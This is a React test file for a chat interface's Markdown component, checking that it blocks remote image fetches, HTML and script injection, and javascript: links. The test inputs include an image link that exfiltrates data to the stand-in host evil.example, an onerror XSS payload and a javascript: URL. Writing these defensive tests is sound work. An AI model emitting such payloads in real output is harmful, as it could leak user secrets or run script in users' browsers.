import { render, screen } from "@testing-library/react";
import { expect, it } from "vitest";
import { TooltipProvider } from "@/components/ui/Tooltip";
import { Markdown } from "./Markdown";

function show(text: string, streaming = false) {
  return render(
    <TooltipProvider>
      <Markdown text={text} streaming={streaming} />
    </TooltipProvider>,
  );
}

it("does not fetch an image from elsewhere by itself", () => {
  const { container } = show("![chart](https://evil.example/leak.png?q=secret)");
  expect(container.querySelector("img")).toBeNull();
  expect(screen.getByText(/evil\.example/)).toBeInTheDocument();
  const link = screen.getByRole("link", { name: "Open image in a new tab" });
  expect(link).toHaveAttribute("rel", expect.stringContaining("noopener"));
});

it("shows HTML as the text that it is", () => {
  const { container } = show(
    'Hello <img src=x onerror="alert(1)"> <b>you</b>\n\n<script>x</script>',
  );
  expect(container.querySelector("img, b, script")).toBeNull();
  expect(container).toHaveTextContent("<b>you</b>");
});

it("breaks lines inside of a table", () => {
  const { container } = show("| a |\n|---|\n| one<br>two |");
  expect(container.querySelector("td br")).not.toBeNull();
});

it("refuses addresses that run code", () => {
  show("[click](javascript:alert(1))");
  expect(screen.queryByRole("link")).toBeNull();
});

it("labels code with its language and offers to copy it", () => {
  show("```go\nfunc main() {}\n```");
  expect(screen.getByText("go")).toBeInTheDocument();
  expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
});

it("closes what the stream has not closed yet", () => {
  const { container } = show("some **bold", true);
  expect(container.querySelector("strong")).toHaveTextContent("bold");
});
